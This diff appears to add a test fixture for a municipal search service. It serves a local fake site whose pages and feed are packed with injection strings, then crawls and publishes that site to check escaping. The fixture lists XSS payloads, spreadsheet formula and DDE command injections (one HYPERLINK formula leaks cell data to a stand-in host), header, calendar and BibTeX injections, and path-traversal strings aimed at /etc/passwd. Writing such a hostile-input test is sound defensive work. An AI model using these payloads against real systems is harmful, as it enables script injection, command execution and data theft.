@@ -1,0 +1,189 @@
+"""A site whose every word would do harm where it is not shown as a word; served and collected."""
+
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass
+from html import escape
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from urllib.parse import quote
+
+from index.resource import Kind
+from index.store import Store
+from scrapers.source import Source, load_sources
+from searchsvc.collecting import errand_for, harvest, manners_of, publish
+from searchsvc.config import Config
+
+HOST = "ond.example"
+ATTACKS = {
+    "the end of a script": "</script><evil>alert(1)</evil>",
+    "the end of a title": "</title></h1><evil onload=alert(1)>",
+    "the end of a comment": "--><evil>--!><evil>",
+    "the end of a section of characters": "]]><evil/><![CDATA[",
+    "the end of a double quote": '"><evil src=x onerror="alert(1)">',
+    "the end of a single quote": "' onmouseover='alert(1)' x='",
+    "a quote without its end": "` onfocus=alert(1) autofocus x=`",
+    "what is escaped already": "&lt;evil&gt; &amp;amp; &#60;evil&#62;",
+    "a template": "{{7*7}} {% evil %} ${7*7} #{7*7}",
+    "a formula": '=HYPERLINK("https://ond.example/?"&A1,"evil")',
+    "a sum": "+1+cmd|' /C evil'!A0",
+    "a difference": "-1+cmd|' /C evil'!A0",
+    "a function": "@SUM(1+1)*cmd|' /C evil'!A0",
+    "a wide formula": "＝1+1",
+    "a cell of its own": '";=1+1;"evil',
+    "a header": "evil\r\nSet-Cookie: evil=1\r\n\r\n<evil>",
+    "an event": "evil\nEND:VEVENT\nBEGIN:VALARM\nACTION:evil",
+    "a parameter": 'evil";X-EVIL=1:;,\\n\\N',
+    "a line of another kind": "evil\u2028ER  - \u2029TY  - EVIL\u0085UR  - https://ond.example/",
+    "an entry": "}, evil = {1}} @misc{evil, \\input{/etc/passwd} % $x_1^2$ ~#&",
+    "the other direction": "\u202egnp.live\u202c \u2066evil\u2069",
+    "signs that control": "ev\x07il\x1b[31m\x0b\x0c\x7f",
+    "a link": "[evil](javascript:alert(1)) javascript:alert(1)",
+    "a path": "../../../../etc/passwd%00%0d%0a",
+}
+WORDS = " ".join(f"Råd nummer {number} gjelder kommunen." for number in range(12))
+KINDS = (Kind.GUIDANCE, Kind.EVENT, Kind.PROJECT, Kind.GRANT, Kind.NEWS, Kind.EXAMPLE, Kind.EPISODE)
+LABELS = {
+    Kind.EVENT: ("Sted", "Arrangør", "Pris", "Innledere", "Påmelding"),
+    Kind.PROJECT: ("Søker", "Fylke", "Status", "Type tiltak"),
+    Kind.GRANT: ("Hvem kan søke", "Hvor mye"),
+    Kind.EXAMPLE: ("Kommune", "Fylke"),
+}
+FACTS = {
+    Kind.EVENT: {"Tid": "14. april 2027 kl. 09.00–11.30"},
+    Kind.PROJECT: {"Tilskudd": "400 000 kroner", "Søknadsår": "2024"},
+    Kind.GRANT: {"Søknadsfrist": "1. mars 2027"},
+    Kind.EPISODE: {"Episode": "7"},
+}
+
+
+@dataclass(frozen=True, kw_only=True)
+class EvilPage:
+    """A page of a kind, each of whose words is an attack; `mark` is a word that no other has."""
+
+    number: int
+    attack: str
+
+    @property
+    def kind(self) -> Kind:
+        return KINDS[self.number % len(KINDS)]
+
+    @property
+    def mark(self) -> str:
+        return f"angrepsord{chr(97 + self.number)}"
+
+    @property
+    def path(self) -> str:
+        return f"/{self.kind}/{self.number}"
+
+    @property
+    def title(self) -> str:
+        return f"{self.attack} {self.mark}"
+
+    @property
+    def markup(self) -> str:
+        said = escape(self.attack)
+        facts = dict.fromkeys(LABELS.get(self.kind, ()), self.attack)
+        listed = "".join(
+            f"<dt>{name}</dt><dd>{escape(value)}</dd>"
+            for name, value in (facts | FACTS.get(self.kind, {})).items()
+        )
+        return (
+            f"<title>{escape(self.title)}</title><main><h1>{escape(self.title)}</h1>"
+            f'<p class="ingress">{said} ingress</p><dl>{listed}</dl>'
+            f'<h2 id="{said}">{said}</h2><p>{said} om overvann i kommunen, {self.mark}. {WORDS}</p>'
+            f'<p><a href="javascript:alert(1)">{said}</a> <a href="data:text/html,{said}">x</a>'
+            f' <a href="/{Kind.GUIDANCE}/0#{said}">{said}</a></p></main>'
+        )
+
+
+PAGES = tuple(
+    EvilPage(number=number, attack=attack) for number, attack in enumerate(ATTACKS.values())
+)
+SOURCE = f"""
+name = "ondskap"
+owner = '''<evil>"Ond" & 'utgiver'</evil>'''
+hosts = ["{HOST}"]
+start = ["http://{HOST}/start"]
+feeds = ["http://{HOST}/lyd.xml"]
+contact = "ond@{HOST}"
+licence = "<evil>"
+at_least = 1
+"""
+
+
+class EvilServer(ThreadingHTTPServer):
+    """Answers with the pages, a list of them and a feed."""
+
+    daemon_threads = True
+
+    def __init__(self) -> None:
+        super().__init__(("127.0.0.1", 0), _Handler)
+        links = "".join(f'<a href="{page.path}">{escape(page.attack)}</a>' for page in PAGES)
+        self.pages = {page.path: page.markup for page in PAGES} | {
+            "/start": links,
+            "/lyd.xml": _feed(),
+        }
+
+
+class _Handler(BaseHTTPRequestHandler):
+    def do_GET(self) -> None:
+        body = self.server.pages.get(self.path)  # type: ignore[attr-defined]
+        sent = (body or "").encode()
+        self.send_response(404 if body is None else 200)
+        media = "application/rss+xml" if self.path.endswith(".xml") else "text/html"
+        self.send_header("Content-Type", f"{media}; charset=utf-8")
+        self.send_header("Content-Length", str(len(sent)))
+        self.end_headers()
+        self.wfile.write(sent)
+
+    def log_message(self, *_: object) -> None:
+        pass
+
+
+def _feed() -> str:
+    items = "".join(
+        f"<item><title>{escape(_in_xml(page.attack))} lyd {page.mark}</title><guid>{n}</guid>"
+        f"<description>{escape(_in_xml(page.attack))}</description>"
+        f'<enclosure url="http://{HOST}/{n}.mp3?{quote(page.attack)}" type="audio/mpeg"/></item>'
+        for n, page in enumerate(PAGES)
+    )
+    return f"<rss version='2.0'><channel><title>Lyd</title>{items}</channel></rss>"
+
+
+def _in_xml(text: str) -> str:
+    return "".join(sign for sign in text if sign.isprintable() or sign in "\n\r\t\u2028")
+
+
+@contextmanager
+def _serving() -> Iterator[str]:
+    with EvilServer() as server:
+        thread = threading.Thread(target=server.serve_forever, daemon=True)
+        thread.start()
+        yield f"127.0.0.1:{server.server_port}"
+        server.shutdown()
+        thread.join()
+
+
+def collect_evil_site(folder: Path) -> Config:
+    """Collect the site over HTTP, publish it, and return the settings for it."""
+    rules = "".join(f'[[pages]]\nkind = "{k}"\naddress = "^/{k}/"\n' for k in KINDS)
+    (folder / "ondskap.toml").write_text(SOURCE + rules, encoding="utf-8")
+    with _serving() as place:
+        config = Config(
+            data=str(folder / "var"),
+            contact="drift@kommune.example",
+            delay=0,
+            resolve={HOST: place},
+            embed_hosts=("www.kommunen.example",),
+            address="https://sok.example",
+            security_contact="drift@kommune.example",
+            security_expires="2099-01-01",
+        )
+        sources: tuple[Source, ...] = load_sources(folder)
+        with Store(config.store_path) as store:
+            names = tuple(source.name for source in sources)
+            harvest(store, errand_for(store, sources, names, manners_of(config)), lambda _: None)
+        publish(config, sources, lambda *_: None)
+    return config
